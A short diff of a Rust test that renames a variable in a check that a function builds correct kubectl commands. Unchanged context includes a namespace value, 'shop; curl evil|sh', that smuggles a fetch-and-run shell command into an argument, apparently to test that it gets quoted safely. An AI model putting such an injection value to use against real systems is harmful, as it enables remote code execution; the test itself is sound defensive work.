@@ -140,7 +140,7 @@ mod tests {
     fn list_has_an_equivalent_kubectl_command() {
         let list = |kind, namespace, wide| list(kind, "berlin", namespace, wide);
         let start = "kubectl --context berlin get";
-        for (line, wanted) in [
+        for (line, expected) in [
             (list(Kind::PODS, None, false), "pods --all-namespaces"),
             (
                 list(Kind::PODS, Some("shop"), true),
@@ -152,7 +152,7 @@ mod tests {
                 "pods --namespace 'shop; curl evil|sh\n'",
             ),
         ] {
-            assert_eq!(line, format!("{start} {wanted}"));
+            assert_eq!(line, format!("{start} {expected}"));
         }
     }
 
